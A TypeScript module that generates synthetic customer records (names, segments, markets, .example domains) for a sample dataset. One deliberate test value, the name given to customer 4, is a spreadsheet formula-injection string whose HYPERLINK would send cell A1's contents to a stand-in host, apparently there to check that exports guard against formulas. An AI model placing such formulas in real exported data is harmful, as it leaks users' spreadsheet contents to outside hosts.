/** Who buys: companies that Microsoft uses in its own documentation, and invented ones. */
import type { Segment } from './catalogue.ts';
import { guid, randomStream } from './random.ts';

export interface Customer {
  readonly index: number;
  readonly id: string;
  readonly name: string;
  readonly domain: string;
  readonly segment: Segment;
  readonly market: 'US' | 'DE';
}

const COMMERCIAL = [
  'Contoso, Ltd.', 'Fabrikam, Inc.', 'Adventure Works Cycles', 'Alpine Ski House', 'Blue Yonder Airlines', 'City Power & Light',
  'Coho Vineyard', 'Coho Winery', 'Consolidated Messenger', 'First Up Consultants', 'Fourth Coffee', 'Graphic Design Institute',
  'Humongous Insurance', 'Lamna Healthcare Company', 'Litware, Inc.', 'Lucerne Publishing', "Margie's Travel", "Munson's Pickles",
  'Nod Publishers', 'Northwind Traders', 'Proseware, Inc.', 'Relecloud', 'Southridge Video', 'Tailspin Toys', 'Tailwind Traders',
  'The Phone Company', 'Trey Research', 'VanArsdel, Ltd.', 'Wide World Importers', 'Wingtip Toys', 'Woodgrove Bank',
]; // prettier-ignore
const EDUCATION = ['Bellows College', 'School of Fine Art', 'Mountain View Academy'];
const CHARITY = ['Best For You Organics Foundation', 'Harbour Lights Relief', 'Lantern Street Shelter'];
const GOVERNMENT = ['County of Lamna', 'Port Authority of Alder Bay'];
const GERMAN = ['Wingtip Spielwaren GmbH', 'Müller & Söhne "Nord" GmbH', 'Öresund Handel KG', 'Proseware Süd AG'];

/** A name that a spreadsheet would run as a formula if an export didn't guard it. */
const FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Fabrikam Residences")';

interface Kind {
  readonly names: readonly string[];
  readonly segment: Segment;
  readonly market: Customer['market'];
}

const KINDS = {
  commercial: { names: COMMERCIAL, segment: 'Commercial', market: 'US' },
  education: { names: EDUCATION, segment: 'Education', market: 'US' },
  charity: { names: CHARITY, segment: 'Charity', market: 'US' },
  government: { names: GOVERNMENT, segment: 'Government', market: 'US' },
  german: { names: GERMAN, segment: 'Commercial', market: 'DE' },
} as const satisfies Record<string, Kind>;

/** One round of ten customers; position 9 alternates between the public sector and charities. */
function kindOf(index: number, twoMarkets: boolean): Kind {
  const place = index % 10;
  if (place === 9)
    return (
      [KINDS.education, KINDS.charity, KINDS.government, KINDS.education][Math.floor(index / 10) % 4] ?? KINDS.charity
    );
  if (place === 7 && twoMarkets) return KINDS.german;
  return place === 8 && index % 20 === 8 ? KINDS.charity : KINDS.commercial;
}

/** How many customers of the same list of names stand before this one. */
function placeInKind(index: number, kind: Kind, twoMarkets: boolean): number {
  const rounds = Math.floor(index / 40);
  const inRound = (limit: number): number => {
    let count = 0;
    for (let i = 0; i < limit; i++) if (kindOf(i, twoMarkets).names === kind.names) count++;
    return count;
  };
  return rounds * inRound(40) + inRound(index % 40);
}

function nameOf(index: number, kind: Kind, twoMarkets: boolean): string {
  if (index === 4) return FORMULA_NAME;
  const place = placeInKind(index, kind, twoMarkets);
  const name = kind.names[place % kind.names.length] ?? '';
  const lap = Math.floor(place / kind.names.length);
  return lap === 0 ? name : `${name} ${String(lap + 1)}`;
}

/** The customer with this number; the same for every size of the sample. */
export function customerAt(seed: number, index: number, twoMarkets: boolean): Customer {
  const kind = kindOf(index, twoMarkets);
  const name = nameOf(index, kind, twoMarkets);
  const label =
    index === 4
      ? 'fabrikam-residences'
      : name
          .normalize('NFD')
          .replace(/[^A-Za-z0-9]+/g, '')
          .toLowerCase();
  const id = guid(randomStream(seed, 'customer', index));
  return { index, id, name, domain: `${label}.example`, segment: kind.segment, market: kind.market };
}
